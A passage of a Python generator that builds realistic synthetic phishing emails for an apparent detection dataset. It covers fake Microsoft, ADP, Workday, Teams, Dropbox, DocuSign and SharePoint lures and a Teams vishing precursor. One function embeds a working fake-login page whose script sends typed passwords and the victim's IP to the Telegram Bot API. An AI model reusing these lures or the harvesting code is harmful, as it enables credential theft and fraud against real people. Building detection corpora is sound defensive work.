              "Brackenridge UK fleet policy renewal", ("Tom Reddick", "t.reddick@aldgatebrokers.co.uk"),
              [("Graham Fenwick", rcpt)], start, 30, "Microsoft Teams Meeting", plain)
    body = Multi("alternative", bnd(s), [
        text(plain), text(html, "html"),
        Leaf("text/calendar", cal, "base64", '; charset="utf-8"; method=REQUEST'),
    ])
    subj = "Brackenridge UK fleet policy renewal"
    hdr = f"""From: Tom Reddick <t.reddick@aldgatebrokers.co.uk>
To: Graham Fenwick <{rcpt}>
Subject: {subj}
Thread-Topic: {subj}
Thread-Index: {thread_index(s)}
Date: {fmt(p['sent'])}
Message-ID: {p['msgid']}"""
    p["ctry"] = "GB"
    add(m, emit_parts(m, p, hdr, body))


def a33_quarantine_tinyurl():
    rcpt = f"jennifer.ames@{US}"
    m = Mail("phish-quarantine-notice-tinyurl", "phishing",
             "Fake Microsoft 365 quarantine digest listing four 'held' messages, sent from a compromised Google Workspace "
             "account of a youth soccer club (passes authentication); every 'Release' and 'Review' link is the same "
             "TinyURL short link to a credential page.",
             "us", utc(2025, 6, 17, 14, 8, 59), rcpt)
    s = m.stem
    p = google_sender_block(m, domain="sciotoriversoccer.org")
    link = "https://tinyurl.com/4mrk2x8b"
    held = [("accounting@ardentpkg.com", "RE: Open invoices - June statement", "6/17/2025 8:41 AM"),
            ("notifications@docusign.net", "Completed: Q3 Vendor Agreement", "6/17/2025 8:12 AM"),
            ("payroll@adp.com", "Pay statement correction", "6/17/2025 7:55 AM"),
            ("m.trask@brackenridgefluid.com", "Fwd: PO 44718 revised", "6/17/2025 7:30 AM")]
    rows = "".join(f'<tr><td style="padding:8px;border-bottom:1px solid #edebe9">{a}</td><td style="padding:8px;border-bottom:1px solid #edebe9">{b}</td>'
                   f'<td style="padding:8px;border-bottom:1px solid #edebe9">{c}</td><td style="padding:8px;border-bottom:1px solid #edebe9">'
                   f'<a href="{link}" style="color:#0078d4">Release</a></td></tr>' for a, b, c in held)
    html = f"""<div dir="ltr"><table cellpadding="0" cellspacing="0" style="font-family:'Segoe UI',Arial,sans-serif;font-size:13px;color:#323130;width:640px">
<tr><td style="padding:16px 0;font-size:20px">Microsoft 365 security</td></tr>
<tr><td style="padding:6px 0 14px 0">Hello {rcpt.split('@')[0]},<br><br>You have <b>4</b> new messages in quarantine. These messages were held for your review and will be deleted after 3 days.</td></tr>
<tr><td><table cellpadding="0" cellspacing="0" style="width:100%;font-size:12px"><tr style="background:#f3f2f1"><td style="padding:8px"><b>Sender</b></td><td style="padding:8px"><b>Subject</b></td><td style="padding:8px"><b>Date</b></td><td style="padding:8px"></td></tr>{rows}</table></td></tr>
<tr><td style="padding:18px 0"><a href="{link}" style="background:#0078d4;color:#fff;padding:8px 18px;text-decoration:none">Review messages</a></td></tr>
<tr><td style="font-size:11px;color:#605e5c">This is an automated notification from Exchange Online Protection. Please do not reply.</td></tr></table></div>
"""
    plain = (f"Microsoft 365 security\n\nHello {rcpt.split('@')[0]},\n\nYou have 4 new messages in quarantine. These messages "
             "were held for your review and will be deleted after 3 days.\n\n"
             + "\n".join(f"{a} | {b} | {c} | Release <{link}>" for a, b, c in held)
             + f"\n\nReview messages <{link}>\n\nThis is an automated notification from Exchange Online Protection.\n")
    hdr = f"""MIME-Version: 1.0
From: "Microsoft 365 Message Center" <registrar@sciotoriversoccer.org>
Date: {fmt(p['sent'], p['off'])}
Message-ID: {p['msgid']}
Subject: Quarantine: 4 messages held for {rcpt}
To: {rcpt}"""
    add(m, emit_parts(m, p, hdr, alt(plain, html, bnd(s, "gmail"))))


def a34_helpdesk_teams_vishing():
    rcpt = f"marcus.bell@{US}"
    m = Mail("phish-helpdesk-teams-vishing-precursor", "phishing",
             "Fake IT service-desk ticket from a free Outlook.com address saying a 'spam mitigation' technician will "
             "contact the employee on Microsoft Teams and asking them to accept the chat and follow instructions (Quick "
             "Assist), the email step of the email-bombing plus Teams vishing playbook; no link.",
             "us", utc(2025, 11, 11, 15, 22, 17), rcpt)
    s = m.stem
    p = exo_sender_block(m, domain="outlook.com", sender="bfs.servicedesk@outlook.com", consumer=True)
    inner = ('<div style="font-family:Aptos,Calibri,Helvetica,sans-serif;font-size:12pt;color:rgb(0,0,0)">Hello Marcus,<br><br>'
             'Our monitoring shows that your mailbox is currently receiving a high volume of spam subscription emails '
             '(ticket <b>INC0048211</b>). We are applying an updated spam filter to affected accounts today.<br><br>'
             'A technician from the Service Desk will contact you via <b>Microsoft Teams</b> within the next 30 minutes. Please accept '
             'the chat request from "Help Desk" and follow the technician\'s instructions so the filter can be installed on your '
             'computer. The session takes about 10 minutes.<br><br>Please do not unsubscribe from the emails yourself, as some '
             'of these links may be malicious.<br><br>Thank you,<br>IT Service Desk<br>Brackenridge Fluid Systems</div>')
    plain = ("Hello Marcus,\n\nOur monitoring shows that your mailbox is currently receiving a high volume of spam "
             "subscription emails (ticket INC0048211). We are applying an updated spam filter to affected accounts today.\n\n"
             "A technician from the Service Desk will contact you via Microsoft Teams within the next 30 minutes. Please "
             "accept the chat request from \"Help Desk\" and follow the technician's instructions so the filter can be "
             "installed on your computer. The session takes about 10 minutes.\n\nPlease do not unsubscribe from the emails "
             "yourself, as some of these links may be malicious.\n\nThank you,\nIT Service Desk\nBrackenridge Fluid Systems\n")
    subj = "Ticket INC0048211 - Spam mitigation on your mailbox"
    hdr = f"""From: Brackenridge IT Service Desk <bfs.servicedesk@outlook.com>
To: "{rcpt}" <{rcpt}>
Subject: {subj}
Thread-Topic: {subj}
Thread-Index: {thread_index(s)}
Date: {fmt(p['sent'])}
Message-ID: {p['msgid']}"""
    add(m, emit_parts(m, p, hdr, alt(plain, owa_html(inner), bnd(s))))


def a35_mailbox_spanish_webflow():
    rcpt = f"jorge.villasenor@{US}"
    m = Mail("phish-mailbox-deactivation-spanish-webflow", "phishing",
             "Spanish-language 'your mailbox will be deactivated' notice sent to a warehouse supervisor from a "
             "compromised cPanel mailbox of a Mexican hardware store (passes SPF/DKIM); the link is a Webflow site "
             "(webflow.io) imitating the Outlook sign-in.",
             "us", utc(2025, 8, 26, 12, 47, 21), rcpt)
    s = m.stem
    server = "mx-s41.hostgator.mx"
    p = cpanel_block(m, "ferreteriaelcentro.com.mx", "ferrete", server, f"198.57.{num(s + 'hg', 200, 250)}.{num(s + 'hg2', 2, 250)}",
                     f"189.203.{num(s + 'c', 1, 250)}.{num(s + 'c2', 1, 250)}", authed="soporte@ferreteriaelcentro.com.mx")
    p["ctry"] = "MX"
    p["lang"] = "es"
    link = f"https://verificacion-buzon-correo.webflow.io/?usr={b64url_text(rcpt)}"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head><body>
<div style="font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#222;max-width:560px">
<p style="font-size:18px;color:#0072c6"><b>Aviso del administrador de correo</b></p>
<p>Estimado usuario <b>{rcpt}</b>:</p>
<p>Su buzón de correo ha alcanzado el límite de almacenamiento y será <b>desactivado en las próximas 24 horas</b> si no verifica su cuenta. Los mensajes entrantes quedarán retenidos hasta completar la verificación.</p>
<p><a href="{link}" style="background:#0072c6;color:#ffffff;padding:9px 20px;text-decoration:none">Verificar mi cuenta ahora</a></p>
<p>Si ya realizó la verificación, ignore este mensaje.</p>
<p style="font-size:12px;color:#777">Equipo de Soporte Técnico &copy; 2025 Microsoft Outlook</p></div></body></html>"""
    plain = (f"Aviso del administrador de correo\n\nEstimado usuario {rcpt}:\n\nSu buzón de correo ha alcanzado el límite "
             "de almacenamiento y será desactivado en las próximas 24 horas si no verifica su cuenta. Los mensajes entrantes "
             f"quedarán retenidos hasta completar la verificación.\n\nVerificar mi cuenta ahora: {link}\n\nSi ya realizó la "
             "verificación, ignore este mensaje.\n\nEquipo de Soporte Técnico (c) 2025 Microsoft Outlook\n")
    subj = enc("Aviso: su buzón de correo será desactivado", q=True)
    hdr = f"""MIME-Version: 1.0
Date: {fmt(p['sent'], -6)}
From: =?UTF-8?Q?Soporte_T=C3=A9cnico?= <soporte@ferreteriaelcentro.com.mx>
To: {rcpt}
Subject: {subj}
User-Agent: Roundcube Webmail/1.6.9
Message-ID: <{hx(s + 'rc', 32)}@ferreteriaelcentro.com.mx>
X-Sender: soporte@ferreteriaelcentro.com.mx
Organization: Soporte"""
    add(m, emit_parts(m, p, hdr, alt(plain, html, f"=_{hx(s + 'rcb', 32)}")))


def a36_adp_lookalike():
    rcpt = f"linda.fairchild@{US}"
    m = Mail("phish-adp-direct-deposit-lookalike", "phishing",
             "ADP-branded 'update required to your direct deposit account' notice from adp-workforce-notify.com "
             "(attacker domain, Mailgun, passes authentication) linking to an ADP login look-alike on adp-wfn-secure.com "
             "to take over the pay account.",
             "us", utc(2025, 4, 15, 11, 58, 30), rcpt)
    s = m.stem
    p = mailgun_block(m, "adp-workforce-notify.com", sub="notify")
    link = f"https://login.adp-wfn-secure.com/welcome?ref=DD{num(s + 'ref', 100000, 999999)}&em={b64url_text(rcpt)}"
    html = f"""<html><body style="margin:0;background:#f4f4f4"><table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:26px 8px">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Arial,Helvetica,sans-serif;color:#333333">
<tr><td style="padding:20px 28px;border-bottom:4px solid #d0271d"><img src="https://www.adp.com/-/media/adp/redesign2018/ui/logo-adp-fy19.svg" height="34" alt="ADP"></td></tr>
<tr><td style="padding:26px 28px 8px 28px;font-size:19px;font-weight:bold">Action required: verify your direct deposit</td></tr>
<tr><td style="padding:8px 28px;font-size:14px;line-height:21px">Hello Linda,<br><br>As part of our annual payroll security review, we were unable to verify the bank account on file for your direct deposit with Brackenridge Fluid Systems, Inc. To avoid a delay with your next pay statement, please review and confirm your direct deposit information by <b>April 17, 2025</b>.</td></tr>
<tr><td style="padding:20px 28px"><a href="{link}" style="background:#d0271d;color:#ffffff;font-size:15px;text-decoration:none;padding:11px 26px;border-radius:3px;display:inline-block">Review Direct Deposit</a></td></tr>
<tr><td style="padding:12px 28px 26px 28px;font-size:11px;color:#777777;line-height:16px">This email was sent by ADP, Inc. Please do not reply. ADP, the ADP logo and Always Designing for People are trademarks of ADP, Inc.<br>ADP, One ADP Boulevard, Roseland, NJ 07068</td></tr>
</table></td></tr></table></body></html>"""
    plain = ("Action required: verify your direct deposit\n\nHello Linda,\n\nAs part of our annual payroll security review, "
             "we were unable to verify the bank account on file for your direct deposit with Brackenridge Fluid Systems, Inc. "
             "To avoid a delay with your next pay statement, please review and confirm your direct deposit information by "
             f"April 17, 2025.\n\nReview Direct Deposit: {link}\n\nThis email was sent by ADP, Inc. Please do not reply.\n")
    hdr = f"""Mime-Version: 1.0
Subject: ADP: Important update required to your direct deposit account
From: ADP <SecurityServices_NoReply@adp-workforce-notify.com>
To: {rcpt}
Date: {fmt(p['sent'])}
Message-Id: {p['msgid']}
Sender: SecurityServices_NoReply@adp-workforce-notify.com"""
    add(m, emit_parts(m, p, hdr, alt(plain, html, bnd(s, "sg"))))


def workday_html(title: str, lines: list[str], link: str, button: str, tenant: str) -> str:
    body = "".join(f'<p style="margin:0 0 14px 0">{l}</p>' for l in lines)
    return f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head>
<body style="margin:0;padding:0;background:#f0f1f2"><table width="100%" cellpadding="0" cellspacing="0" border="0"><tr><td align="center" style="padding:24px 8px">
<table width="600" cellpadding="0" cellspacing="0" border="0" style="background:#ffffff;font-family:Roboto,Helvetica,Arial,sans-serif;font-size:14px;color:#333333;line-height:20px">
<tr><td style="background:#0875e1;padding:16px 24px;color:#ffffff;font-size:18px;font-weight:bold">workday<span style="color:#f5a800">.</span> &nbsp;<span style="font-weight:normal;font-size:14px">{tenant}</span></td></tr>
<tr><td style="padding:24px 24px 6px 24px;font-size:18px;font-weight:bold">{title}</td></tr>
<tr><td style="padding:10px 24px">{body}</td></tr>
<tr><td style="padding:6px 24px 26px 24px"><a href="{link}" style="background:#0875e1;color:#ffffff;text-decoration:none;padding:10px 22px;border-radius:20px;display:inline-block;font-weight:bold">{button}</a></td></tr>
<tr><td style="padding:14px 24px;font-size:11px;color:#808080;border-top:1px solid #e6e7e8">This email was sent from a notification-only address that cannot accept incoming email. Please do not reply to this message.</td></tr>
</table></td></tr></table></body></html>"""


def a37_workday_benefits_compromised():
    rcpt = f"alan.petrosyan@{US}"
    m = Mail("phish-workday-benefits-compromised-clinic", "phishing",
             "Workday-styled 'review your 2026 benefit elections' task sent from a compromised physical-therapy clinic's "
             "Exchange Online mailbox (passes DMARC) during open enrollment; the button opens a Workday/Okta look-alike on "
             "wd5-myworkday-sso.com.",
             "us", utc(2025, 11, 3, 20, 14, 46), rcpt)
    s = m.stem
    p = exo_sender_block(m, domain="maplegrovept.com", sender="billing@maplegrovept.com")
    link = f"https://brackenridgefluid.wd5-myworkday-sso.com/d/task/2998%24{num(s + 't', 10000, 99999)}.htmld?u={b64url_text(rcpt)}"
    html = workday_html("Action Required: Review your 2026 Benefit Elections",
                        ["Alan Petrosyan,", "You have an Open Enrollment inbox item awaiting your action: <b>Benefit Change - "
                         "Open Enrollment 2026</b>.", "Your current elections will not roll over automatically this year. "
                         "Complete the task by <b>November 7, 2025</b> to keep medical, dental and vision coverage."],
                        link, "Go to Inbox Task", "Brackenridge Fluid Systems")
    plain = ("Action Required: Review your 2026 Benefit Elections\n\nAlan Petrosyan,\n\nYou have an Open Enrollment inbox "
             "item awaiting your action: Benefit Change - Open Enrollment 2026.\n\nYour current elections will not roll over "
             "automatically this year. Complete the task by November 7, 2025 to keep medical, dental and vision coverage.\n\n"
             f"Go to Inbox Task<{link}>\n")
    subj = "Action Required: Review your 2026 Benefit Elections"
    hdr = f"""From: Workday <billing@maplegrovept.com>
To: "{rcpt}" <{rcpt}>
Subject: {subj}
Thread-Topic: {subj}
Thread-Index: {thread_index(s)}
Date: {fmt(p['sent'])}
Message-ID: {p['msgid']}"""
    add(m, emit_parts(m, p, hdr, alt(plain, html, bnd(s))))


def mailjet_block(m: Mail, domain: str) -> dict:
    s = m.stem
    sent = m.sent(2)
    ip = f"87.253.232.{num(s + 'mj', 2, 250)}"
    helo = f"o{num(s + 'mjo', 100, 999)}.p25.mailjet.com"
    pre = "\n".join([
        dkim(domain, "mailjet", "message-id:date:subject:from:to:list-unsubscribe:x-csa-complaints:x-mj-mid:"
             "mime-version:content-type:x-mj-smtpguid:date:from:subject", s + "mj", t=ts(sent), style="space", size=256),
        dkim("mailjet.com", "mailjet", "message-id:date:subject:from:to:mime-version:content-type:x-mj-smtpguid", s + "mj2",
             t=ts(sent), style="space", size=256),
    ])
    post = "\n".join([
        f"X-MJ-Mid: {alnum(s + 'mid', 60)}",
        f"X-MJ-SMTPGUID: {guid(s + 'smtpguid')}",
        "X-CSA-Complaints: csa-complaints@eco.de",
        "X-Mailjet-Campaign: 1",
    ])
    return dict(ip=ip, helo=helo, mailfrom=f"bnc3.mailjet.com", spf="pass", dkim_res="pass", dkim_d=domain, dmarc="pass",
                tls="TLS1_2", pre=pre, post=post, sent=sent, msgid=f"<{guid(s + 'mjid')}@mailjet.com>",
                return_path=f"<{alnum(s + 'rp', 20)}.{num(s + 'rp2', 1000000, 9999999)}@bnc3.mailjet.com>")


def a38_teams_unread_google_amp():
    rcpt = f"oliver.kettering@{UK}"
    m = Mail("phish-teams-unread-google-amp-redirect", "phishing",
             "Imitation Teams 'you have unread messages' notification sent through Mailjet for the attacker domain "
             "teams-notification-service.com; the 'Open Microsoft Teams' link goes through a google.com/amp/s/ "
             "redirect to a credential page, hiding the destination behind Google.",
             "uk", utc(2025, 7, 8, 14, 33, 41), rcpt)
    s = m.stem
    p = mailjet_block(m, "teams-notification-service.com")
    p["ctry"] = "FR"
    link = f"https://www.google.com/amp/s/msgviewer.chat-workspace.online/teams/?o={b64url_text(rcpt)}"
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head><body style="margin:0;background:#f5f5f5">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px 8px">
<table width="560" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:'Segoe UI',Arial,sans-serif;color:#242424">
<tr><td style="padding:20px 28px 10px 28px"><img src="https://statics.teams.cdn.office.net/evergreen-assets/icons/microsoft_teams_logo_refresh.png" width="32" height="32" alt="Microsoft Teams"></td></tr>
<tr><td style="padding:6px 28px 4px 28px;font-size:20px;font-weight:600">Oliver, you have 3 unread messages</td></tr>
<tr><td style="padding:6px 28px;font-size:14px;color:#616161">Graham Fenwick sent messages in a chat</td></tr>
<tr><td style="padding:14px 28px"><table cellpadding="0" cellspacing="0" style="background:#f5f5f5;width:100%"><tr><td style="padding:12px 14px;font-size:14px">
<b>Graham Fenwick</b> &middot; 14:21<br>Oliver, can you look at the Bradford quote before the call? I've shared the revised pricing sheet.</td></tr></table></td></tr>
<tr><td style="padding:16px 28px 26px 28px"><a href="{link}" style="background:#5b5fc7;color:#ffffff;font-size:14px;font-weight:600;text-decoration:none;padding:9px 22px;border-radius:4px;display:inline-block">Open Microsoft Teams</a></td></tr>
<tr><td style="padding:12px 28px 22px 28px;font-size:11px;color:#8a8886;border-top:1px solid #edebe9">You are receiving this email because you have missed activity in Microsoft Teams.<br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</td></tr>
</table></td></tr></table></body></html>"""
    plain = ("Oliver, you have 3 unread messages\n\nGraham Fenwick sent messages in a chat\n\nGraham Fenwick - 14:21\nOliver, "
             "can you look at the Bradford quote before the call? I've shared the revised pricing sheet.\n\n"
             f"Open Microsoft Teams: {link}\n")
    hdr = f"""Message-Id: {p['msgid']}
Date: {fmt(p['sent'])}
Subject: You have 3 unread messages in Microsoft Teams
From: Microsoft Teams <noreply@teams-notification-service.com>
To: {rcpt}
MIME-Version: 1.0"""
    add(m, emit_parts(m, p, hdr, alt(plain, html, bnd(s, "sg"))))


def dropbox_block(m: Mail, hfrom_domain: str = "dropbox.com") -> dict:
    s = m.stem
    sent = m.sent(1)
    ip = f"162.125.{num(s + 'db3', 0, 8)}.{num(s + 'db4', 2, 250)}"
    helo = f"mail{num(s + 'dbh', 10, 99)}.outbound.dropbox.com"
    pre = dkim(hfrom_domain, "20240711" if hfrom_domain == "dropbox.com" else "s1",
               "Content-Type:MIME-Version:Message-ID:Date:Subject:From:To:Reply-To", s + "db", t=ts(sent), style="space")
    return dict(ip=ip, helo=helo, mailfrom="bounces.dropbox.com" if hfrom_domain == "dropbox.com" else "mail.hellosign.com",
                spf="pass", dkim_res="pass", dkim_d=hfrom_domain, dmarc="pass", tls="TLS1_3", pre=pre, sent=sent,
                return_path=f"<bounce-{hx(s + 'rb', 24)}@bounces.dropbox.com>")


def a39_dropbox_genuine_share():
    rcpt = f"megan.trask@{US}"
    m = Mail("phish-dropbox-genuine-share-rfq", "phishing",
             "Genuine Dropbox sharing notification (no-reply@dropbox.com, passes authentication) from an unknown "
             "'industrial buyer' account sharing an 'RFQ 2026' PDF with procurement; the shared PDF on dropbox.com holds "
             "a button to a Microsoft 365 credential page, so only the context gives it away.",
             "us", utc(2025, 12, 2, 16, 45, 2), rcpt)
    s = m.stem
    p = dropbox_block(m)
    link = f"https://www.dropbox.com/l/scl/AA{alnum(s + 'l', 43)}"
    html = f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="margin:0;padding:0;background:#ffffff">
<table width="100%" cellpadding="0" cellspacing="0" border="0"><tr><td align="center">
<table width="520" cellpadding="0" cellspacing="0" border="0" style="font-family:'Open Sans','Helvetica Neue',Helvetica,Arial,sans-serif;color:#1e1919">
<tr><td style="padding:32px 0 24px 0"><img src="https://cfl.dropboxstatic.com/static/images/emails/glyph/glyph_34@2x.png" width="34" height="34" alt="Dropbox"></td></tr>
<tr><td style="font-size:16px;line-height:24px;padding-bottom:20px">Hi Megan,<br><br><b>Kyle Prentiss</b> (kprentiss@prentissindustrial.com) invited you to view the file "<b>Brackenridge RFQ 2026 - Valve Components.pdf</b>" on Dropbox.</td></tr>
<tr><td style="font-size:14px;line-height:22px;color:#52504d;padding-bottom:24px;font-style:italic">"Megan - attached is our RFQ for 2026 volumes. Please review and quote by 12/12."</td></tr>
<tr><td style="padding-bottom:32px"><a href="{link}" style="background:#0061fe;color:#ffffff;font-size:15px;text-decoration:none;padding:12px 24px;border-radius:3px;display:inline-block">View file</a></td></tr>
<tr><td style="font-size:13px;line-height:20px;color:#736c64;padding-bottom:10px">Enjoy!<br>The Dropbox team</td></tr>
<tr><td style="font-size:11px;line-height:16px;color:#a39e98;padding:20px 0;border-top:1px solid #e6e1da">Dropbox, Inc., PO Box 77767, San Francisco, CA 94107<br>&copy; 2025 Dropbox<br><a href="https://www.dropbox.com/l/AA{alnum(s + 'u', 43)}" style="color:#a39e98">Unsubscribe from these emails</a></td></tr>
</table></td></tr></table>
<img src="https://www.dropbox.com/l/AA{alnum(s + 'px', 43)}/pixel" width="1" height="1" alt=""></body></html>"""
    plain = ("Hi Megan,\n\nKyle Prentiss (kprentiss@prentissindustrial.com) invited you to view the file \"Brackenridge RFQ "
             "2026 - Valve Components.pdf\" on Dropbox.\n\n\"Megan - attached is our RFQ for 2026 volumes. Please review and "
             f"quote by 12/12.\"\n\nView file: {link}\n\nEnjoy!\nThe Dropbox team\n")
    hdr = f"""Reply-To: kprentiss@prentissindustrial.com
From: "Kyle Prentiss (via Dropbox)" <no-reply@dropbox.com>
To: megan.trask@{US}
Subject: Kyle Prentiss shared "Brackenridge RFQ 2026 - Valve Components.pdf" with you
Date: {fmt(p['sent'])}
Message-ID: <{hx(s + 'dbid', 16)}.{num(s + 'dbn', 100000, 999999)}@dropbox.com>
MIME-Version: 1.0
X-Dropbox-Template: shared_content_invite_file"""
    add(m, emit_parts(m, p, hdr, alt(plain, html, bnd(s, "sg"))))


def a41_docusign_html_telegram():
    rcpt = f"greg.nuttall@{UK}"
    m = Mail("phish-docusign-html-telegram-exfil", "phishing",
             "'Completed: Please DocuSign' supplier-agreement notice from a compromised cPanel mailbox of a Yorkshire "
             "caravan dealer (passes SPF/DKIM) with an HTML attachment: a DocuSign-themed Microsoft login whose script "
             "posts the typed password to the Telegram Bot API.",
             "uk", utc(2025, 6, 10, 8, 18, 33), rcpt)
    s = m.stem
    server = "uk-lon1.fasthosts-shared.net"
    p = cpanel_block(m, "ydcaravans.co.uk", "ydcarava", "s" + str(num(s + 'srv', 100, 999)) + ".uksrv-cp.com",
                     f"185.211.{num(s + 'ip3', 20, 30)}.{num(s + 'ip4', 2, 250)}",
                     f"41.190.{num(s + 'c3', 1, 250)}.{num(s + 'c4', 1, 250)}", authed="sales@ydcaravans.co.uk")
    del server
    p["ctry"] = "GB"
    token = f"{num(s + 'bot', 7000000000, 7999999999)}:AA{alnum(s + 'tok', 33)}"
    chat = f"-100{num(s + 'chat', 1000000000, 2999999999)}"
    page = f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>DocuSign | Secure Document</title>
<style>body{{font-family:Helvetica,Arial,sans-serif;background:#f4f4f4;margin:0}}
.hd{{background:#1e4ca1;color:#fff;padding:18px 24px;font-size:18px}}
.card{{max-width:420px;margin:50px auto;background:#fff;padding:32px;border-radius:4px;box-shadow:0 1px 4px rgba(0,0,0,.15)}}
input{{width:100%;padding:10px;margin:8px 0 14px 0;border:1px solid #bbb;box-sizing:border-box;font-size:14px}}
button{{width:100%;background:#ffc423;border:none;padding:12px;font-weight:bold;font-size:15px;cursor:pointer}}
.err{{color:#c00;font-size:13px;display:none}}</style></head>
<body><div class="hd">DocuSign</div>
<div class="card"><h3 style="margin-top:0">Brackenridge UK - Supplier Agreement.pdf</h3>
<p style="font-size:13px;color:#555">This document is protected. Confirm your email account to view and download.</p>
<form id="frm"><label>Email</label><input type="email" id="em" value="{rcpt}">
<label>Password</label><input type="password" id="pw" required>
<p class="err" id="er">Incorrect password. Please try again.</p><button type="submit">View Document</button></form></div>
<script>
var t="{token}",c="{chat}",n=0;
document.getElementById('frm').onsubmit=function(e){{e.preventDefault();
var em=document.getElementById('em').value,pw=document.getElementById('pw').value;
fetch('https://api.ipify.org?format=json').then(function(r){{return r.json()}}).then(function(j){{
var msg='DS-UK | '+em+' | '+pw+' | '+j.ip+' | '+navigator.userAgent;
return fetch('https://api.telegram.org/bot'+t+'/sendMessage',{{method:'POST',headers:{{'Content-Type':'application/json'}},body:JSON.stringify({{chat_id:c,text:msg}})}});
}}).then(function(){{n++;if(n<2){{document.getElementById('er').style.display='block';document.getElementById('pw').value='';}}
else{{window.location.replace('https://www.docusign.com/');}}}});}};
</script></body></html>
"""
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head><body>
<table width="560" cellpadding="0" cellspacing="0" style="font-family:Helvetica,Arial,sans-serif"><tr><td style="background:#1e4ca1;color:#fff;padding:24px;text-align:center;font-size:16px">
Your document has been completed<br><br><span style="font-size:13px">Brackenridge UK - Supplier Agreement.pdf</span></td></tr>
<tr><td style="padding:20px;font-size:14px;color:#333">All parties have completed <b>Please DocuSign: Brackenridge UK - Supplier Agreement.pdf</b>.<br><br>
The completed document is attached to this email. Open the attachment in your browser to view it.</td></tr>
<tr><td style="padding:12px 20px;font-size:11px;color:#777">Powered by DocuSign</td></tr></table></body></html>"""
    plain = ("Your document has been completed\n\nAll parties have completed Please DocuSign: Brackenridge UK - Supplier "
             "Agreement.pdf.\n\nThe completed document is attached to this email. Open the attachment in your browser to "
             "view it.\n\nPowered by DocuSign\n")
    body = Multi("mixed", f"=_{hx(s + 'rcb', 32)}", [
        alt(plain, html, f"=_{hx(s + 'rca', 32)}"),
        attachment("text/html", "Brackenridge_UK_Supplier_Agreement_Completed.html", page.encode()),
    ])
    hdr = f"""MIME-Version: 1.0
Date: {fmt(p['sent'], uk_off(p['sent']))}
From: DocuSign <sales@ydcaravans.co.uk>
To: {rcpt}
Subject: Completed: Please DocuSign: Brackenridge UK - Supplier Agreement.pdf
User-Agent: Roundcube Webmail/1.6.6
Message-ID: <{hx(s + 'rc', 32)}@ydcaravans.co.uk>
X-Sender: sales@ydcaravans.co.uk"""
    add(m, emit_parts(m, p, hdr, body))


def a42_sharepoint_wp_turnstile():
    rcpt = f"rachel.kim@{US}"
    m = Mail("phish-sharepoint-lookalike-partner-wordpress", "phishing",
             "SharePoint 'secure document' notice from ridgeline-mechanicals.com, a look-alike of a real contractor's "
             "domain, sent from the attacker's own Postfix server on a Contabo VPS (passes SPF/DKIM); the link goes to a "
             "hacked chiropractor's WordPress site that shows a Cloudflare Turnstile check before the fake sign-in.",
             "us", utc(2025, 4, 29, 18, 53, 7), rcpt)
    s = m.stem
    p = postfix_block(m, "ridgeline-mechanicals.com", "mail.ridgeline-mechanicals.com",
                      f"62.171.{num(s + 'ip', 128, 190)}.{num(s + 'ip2', 2, 250)}", client="102.88.34.17",
                      ptr=f"vmi{num(s + 'vmi', 1000000, 2999999)}.contaboserver.net")
    p["ctry"] = "DE"
    link = f"https://www.oakviewchiropractic.com/wp-content/plugins/wp-file-share/doc/?id={hx(s + 'id', 16)}#{b64url_text(rcpt)}"
    html = sharepoint_share_html("Curtis Langley", "CL", "Ridgeline_Brackenridge_Change_Order_07.pdf",
                                 "Rachel, sending the signed change order for Daniel's review. Let me know if you have any trouble opening it.",
                                 link, "pdf", "Ridgeline Mechanical Contractors")
    plain = ("Curtis Langley shared a file with you\n\n\"Rachel, sending the signed change order for Daniel's review. Let me "
             "know if you have any trouble opening it.\"\n\nRidgeline_Brackenridge_Change_Order_07.pdf\n\n"
             f"Open <{link}>\n\nThis link only works for the direct recipients of this message.\n")
    hdr = f"""Date: {fmt(p['sent'])}
From: Curtis Langley via SharePoint <sharepoint@ridgeline-mechanicals.com>
To: {rcpt}
Subject: Curtis Langley shared "Ridgeline_Brackenridge_Change_Order_07" with you
Message-ID: {p['msgid']}
X-Mailer: Microsoft Office Outlook 16.0
MIME-Version: 1.0"""
    add(m, emit_parts(m, p, hdr, alt(plain, html, bnd(s, "hyph"))))


def a43_notion_proposal():
    rcpt = f"sophie.ashworth@{UK}"
    m = Mail("phish-notion-proposal-compromised-fm", "phishing",
             "Short 'please find our proposal via the link below' from a compromised Google Workspace mailbox of a UK "
             "facilities-management firm (passes authentication), linking to a Notion page that carries a 'view "
             "proposal' button to a Microsoft 365 credential page.",
             "uk", utc(2025, 12, 16, 15, 12, 58), rcpt)
    s = m.stem
    p = google_sender_block(m, domain="brightmoorfm.co.uk")
    p["ctry"] = "GB"
    link = f"https://brightmoor-fm.notion.site/Brightmoor-FM-Proposal-Brackenridge-UK-{hx(s + 'n', 32)}?pvs=4"
    html = gmail_html(f"""<div>Hi Sophie,</div><div><br></div><div>Please find our proposal for the 2026 facilities contract at Thorpe Park via the link below.</div><div><br></div>
<div><a href="{link}">Brightmoor FM - Proposal for Brackenridge UK (2026)</a></div><div><br></div><div>Happy to talk it through whenever suits.</div><div><br></div>
<div>Kind regards,</div><div><br></div><div><b>Andrew Lister</b></div><div>Business Development Manager</div><div>Brightmoor Facilities Management Ltd</div><div>07700 900 418</div>""")
    plain = ("Hi Sophie,\n\nPlease find our proposal for the 2026 facilities contract at Thorpe Park via the link below.\n\n"
             f"Brightmoor FM - Proposal for Brackenridge UK (2026) <{link}>\n\nHappy to talk it through whenever suits.\n\n"
             "Kind regards,\n\n*Andrew Lister*\nBusiness Development Manager\nBrightmoor Facilities Management Ltd\n07700 900 418\n")
    subj = enc("Proposal – Brackenridge UK facilities contract 2026")
    hdr = f"""MIME-Version: 1.0
From: Andrew Lister <a.lister@brightmoorfm.co.uk>
Date: {fmt(p['sent'], p['off'])}
Message-ID: {p['msgid']}
